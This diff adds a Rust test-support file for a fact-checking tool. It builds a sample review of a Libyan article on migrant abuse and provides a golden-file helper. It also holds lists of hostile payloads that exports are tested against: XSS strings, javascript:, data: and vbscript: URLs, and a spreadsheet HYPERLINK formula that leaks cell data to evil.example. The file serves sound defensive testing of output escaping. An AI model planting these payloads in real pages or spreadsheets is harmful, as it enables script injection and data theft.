@@ -1,0 +1,234 @@
+//! Shared test data: the sample review built from assets/sample-article.txt with fixed ids and
+//! dates, a review full of hostile payloads, and the golden-file helper (`UPDATE_GOLDEN=1`).
+#![allow(dead_code)]
+
+use std::path::PathBuf;
+
+use claimdesk_core::model::{
+    Article, Claim, ClaimId, ClaimStatus, Evidence, Review, Span, Timestamp,
+};
+use claimdesk_core::text::normalize_article_text;
+
+/// The workspace root.
+pub fn root() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..")
+}
+
+/// A file under core/tests/.
+pub fn test_file(rel: &str) -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .join("tests")
+        .join(rel)
+}
+
+fn at(s: &str) -> Timestamp {
+    Timestamp::parse(s).expect("fixed timestamps are valid")
+}
+
+/// A claim over the first occurrence of `quote`, with a fixed id and dates.
+pub fn claim(article: &Article, id: &str, quote: &str, status: ClaimStatus) -> Claim {
+    let text = article.text();
+    let byte = text
+        .find(quote)
+        .unwrap_or_else(|| panic!("{quote:?} not in the article"));
+    let start = article.index().char_of(text, byte);
+    let mut c = Claim::new(
+        article,
+        Span::new(start, start + quote.chars().count()),
+        status,
+    );
+    c.id = ClaimId(id.to_owned());
+    c.created = at("2026-11-28T10:00:00Z");
+    c.modified = at("2026-11-28T11:30:00Z");
+    c
+}
+
+/// An evidence entry.
+pub fn source(url: &str, title: &str, excerpt: &str, accessed: &str, note: &str) -> Evidence {
+    Evidence {
+        url: url.into(),
+        title: title.into(),
+        excerpt: excerpt.into(),
+        accessed: accessed.into(),
+        note: note.into(),
+        ..Evidence::default()
+    }
+}
+
+/// The sample review: six claims on the sample article (nested, overlapping, each status, one
+/// orphan), with verdicts, evidence and review details.
+pub fn sample_review() -> Review {
+    let raw =
+        std::fs::read_to_string(root().join("assets/sample-article.txt")).expect("sample article");
+    let article = Article::new(
+        "Libya denies abuse of migrants",
+        "https://www.libyaobserver.ly/news/example",
+        normalize_article_text(&raw),
+    );
+    let mut lies = claim(
+        &article,
+        "c-000000000001",
+        "the reports were lies and fabrications",
+        ClaimStatus::Disputed,
+    );
+    lies.verdict = "False".into();
+    lies.claimant = "Mohammed Besher (AIID)".into();
+    lies.claim_date = "2017-11-26".into();
+    lies.summary = "Reports of abuse of migrants in Libya are fabricated".into();
+    lies.note = "Abuse is documented by several independent bodies.".into();
+    lies.evidence = vec![
+        source(
+            "https://www.ohchr.org/en/press-releases/2017/11/un-human-rights-chief-suffering-migrants-libya-outrage-conscience-humanity",
+            "UN human rights chief: Suffering of migrants in Libya outrage to conscience of humanity",
+            "The detention system for migrants in Libya is broken beyond repair.",
+            "2026-11-28",
+            "OHCHR monitors visited detention centres in Tripoli.",
+        ),
+        source(
+            "",
+            "Interview with a former detainee",
+            "",
+            "2026-11-27",
+            "Recorded, consent on file.",
+        ),
+    ];
+    let bears = claim(
+        &article,
+        "c-000000000002",
+        "Libya bears no full responsibility for it",
+        ClaimStatus::UnderInvestigation,
+    );
+    let mut blame = claim(
+        &article,
+        "c-000000000003",
+        "Libya is not to blame for the displacement of thousands of persons from their homelands",
+        ClaimStatus::Disputed,
+    );
+    blame.verdict = "Misleading".into();
+    blame.claimant = "Mohammed Besher (AIID)".into();
+    let mut displaced = claim(
+        &article,
+        "c-000000000004",
+        "the displacement of thousands of persons",
+        ClaimStatus::Asserted,
+    );
+    displaced.verdict = "Accurate".into();
+    displaced.evidence = vec![source(
+        "https://www.iom.int/",
+        "IOM Libya displacement tracking",
+        "",
+        "2026-11-28",
+        "",
+    )];
+    let coming = claim(
+        &article,
+        "c-000000000005",
+        "from their homelands, coming to Libya",
+        ClaimStatus::UnderInvestigation,
+    );
+    let mut orphan = claim(
+        &article,
+        "c-000000000006",
+        "Libya is bearing the financial responsibility",
+        ClaimStatus::Asserted,
+    );
+    orphan.quote = "Libya pays for every rescue at sea".into();
+    orphan.orphaned = true;
+    orphan.verdict = "Mostly true".into();
+    let mut review =
+        Review::with_claims(article, vec![lies, bears, blame, displaced, coming, orphan]);
+    review.details.reviewer = "Amal Haddad".into();
+    review.details.organisation = "Claimdesk Fact Check".into();
+    review.details.article_url = "https://www.libyaobserver.ly/news/example".into();
+    review.details.article_published = "2017-11-27".into();
+    review.details.report_url = "https://factcheck.example.org/2026/libya-migrants".into();
+    review
+}
+
+/// Payloads every export must neutralise (formats.md).
+pub const HOSTILE: &[&str] = &[
+    "<script>alert(1)</script>",
+    "</script><script>alert(2)</script>",
+    "\"><img src=x onerror=alert(3)>",
+    "'><svg onload=alert(4)>",
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tindented",
+    "[click](javascript:alert(5))",
+    "![img](https://evil.example/p.png)",
+    "<https://evil.example>",
+    "**bold** _em_ `code` ~~strike~~ $x$ | a | b |",
+    "# heading\n- list\n> quote\n1. one",
+    "🇱🇾 👩‍👩‍👧 e\u{301} \u{202e}RTL override\u{202c}",
+];
+
+/// URLs that must never become links.
+pub const HOSTILE_URLS: &[&str] = &[
+    "javascript:alert(6)",
+    " JaVa\tScRiPt:alert(7)",
+    "\u{1}javascript:alert(8)",
+    "java\nscript:alert(9)",
+    "data:text/html,<script>alert(10)</script>",
+    "vbscript:msgbox(11)",
+];
+
+/// A review whose article, claims, evidence and details are all hostile.
+pub fn hostile_review() -> Review {
+    let text = HOSTILE.join("\n\n");
+    let article = Article::new(HOSTILE[0], HOSTILE_URLS[0], normalize_article_text(&text));
+    let mut claims = Vec::new();
+    for (k, payload) in HOSTILE.iter().enumerate() {
+        let quote = normalize_article_text(payload);
+        let status = ClaimStatus::ALL[k % 3];
+        let mut c = claim(&article, &format!("h{k}\"><script>"), &quote, status);
+        c.verdict = HOSTILE[(k + 1) % HOSTILE.len()].into();
+        c.claimant = HOSTILE[(k + 2) % HOSTILE.len()].into();
+        c.note = HOSTILE[(k + 3) % HOSTILE.len()].into();
+        c.summary = HOSTILE[(k + 4) % HOSTILE.len()].into();
+        c.claim_date = HOSTILE[(k + 5) % HOSTILE.len()].into();
+        c.evidence = vec![source(
+            HOSTILE_URLS[k % HOSTILE_URLS.len()],
+            HOSTILE[(k + 6) % HOSTILE.len()],
+            HOSTILE[(k + 7) % HOSTILE.len()],
+            HOSTILE[(k + 8) % HOSTILE.len()],
+            HOSTILE[(k + 9) % HOSTILE.len()],
+        )];
+        claims.push(c);
+    }
+    let mut review = Review::with_claims(article, claims);
+    review.details.reviewer = HOSTILE[4].into();
+    review.details.organisation = HOSTILE[1].into();
+    review.details.article_url = HOSTILE_URLS[1].into();
+    review.details.article_published = HOSTILE[3].into();
+    review.details.report_url = HOSTILE_URLS[2].into();
+    review
+}
+
+/// Compares `actual` with the golden file, or rewrites it when `UPDATE_GOLDEN=1`.
+pub fn golden(rel: &str, actual: &[u8]) {
+    let path = test_file(rel);
+    if std::env::var_os("UPDATE_GOLDEN").is_some_and(|v| v == "1") {
+        std::fs::write(&path, actual).expect("write golden");
+        return;
+    }
+    let expected = std::fs::read(&path).unwrap_or_else(|e| {
+        panic!(
+            "{}: {e}; run with UPDATE_GOLDEN=1 to create it",
+            path.display()
+        )
+    });
+    if expected != actual {
+        let got = path.with_extension(format!(
+            "{}.actual",
+            path.extension().and_then(|e| e.to_str()).unwrap_or("out")
+        ));
+        let _ = std::fs::write(&got, actual);
+        panic!(
+            "{} differs from the output (written to {}); run with UPDATE_GOLDEN=1 if the change is intended",
+            path.display(),
+            got.display()
+        );
+    }
+}
